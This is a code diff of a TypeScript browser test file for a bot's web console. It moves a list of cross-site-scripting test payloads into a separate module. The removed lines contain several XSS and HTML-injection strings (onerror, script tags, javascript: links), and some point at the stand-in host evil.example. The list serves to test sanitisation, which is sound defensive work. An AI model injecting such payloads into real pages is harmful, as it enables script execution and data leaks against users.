@@ -5,6 +5,7 @@ import type { Card } from '../../src/bot/card.ts';
 import { startMonitoringService } from '../fakes/monitoring-service.ts';
 import { startBrowser, warnWithoutBrowser } from '../support/browser.ts';
 import { eventually } from '../support/eventually.ts';
+import { ATTACKS } from './attacks.ts';
 import { startBreakableProxy } from './breakable-proxy.ts';
 import { input, messages, type OpenOptions, openPageIn, thread, threadInput } from './open-page.ts';
 import { openTab, startTestConsole, type TestConsole } from './test-console.ts';
@@ -16,17 +17,6 @@ const started = await startBrowser();
 const browser: Browser | undefined = 'unavailable' in started ? undefined : started;
 if ('unavailable' in started) warnWithoutBrowser(started.unavailable);
 afterAll(() => browser?.close());
-
-/** What a hostile text tries: each sets `window.hacked` or asks an address when it gets its way. */
-const ATTACKS = [
-  '<img src=x onerror="window.hacked=1">',
-  '<script>window.hacked=1</script>',
-  '<svg onload="window.hacked=1"></svg>',
-  '<a href="javascript:window.hacked=1">click</a>',
-  '"><iframe src="https://evil.example/frame"></iframe>',
-  '<style>@import "https://evil.example/style";</style>',
-  '<form action="https://evil.example"><input name=q><button>go</button></form>',
-].join(' ');
 
 const openPage = (at: Pick<TestConsole, 'url'>, options?: OpenOptions) =>
   openPageIn(browser, at, options);
